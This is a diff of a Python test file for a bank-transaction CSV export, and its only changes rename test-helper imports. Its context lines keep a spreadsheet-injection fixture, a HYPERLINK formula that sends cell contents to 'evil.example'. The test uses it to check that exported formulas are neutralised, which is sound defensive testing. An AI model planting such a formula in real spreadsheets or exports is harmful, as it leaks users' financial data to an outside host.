@@ -10,12 +10,12 @@ from typing import Any
 
 import pytest
 
+from devstack.factories.financial import create_bank_account, import_statement
 from financial_subgraph.bank import export
 from financial_subgraph.bank.export import HEADER, transactions_csv
 from financial_subgraph.bank.models import BankTransaction
 
 from ..conftest import GraphQL
-from .conftest import create_account, import_statement
 
 HYPERLINK = '=HYPERLINK("http://evil.example/?leak="&A1,"Refund")'
 EXPORT = """query($accountId: ID, $from: Date, $to: Date) {
@@ -64,7 +64,7 @@ def test_an_export_is_bounded(monkeypatch: pytest.MonkeyPatch) -> None:
 
 
 async def test_the_export_query_neutralises_imported_formulas(gql: GraphQL, member: str) -> None:
-    account = await create_account(gql, member)
+    account = await create_bank_account(gql, member)
     quoted = HYPERLINK.replace('"', '""')
     content = (
         f'Date,Text,Payee,Amount\n2026-03-02,"{quoted}",Shop,-1.00\n2026-03-03,Tea,Cafe,-3.20\n'
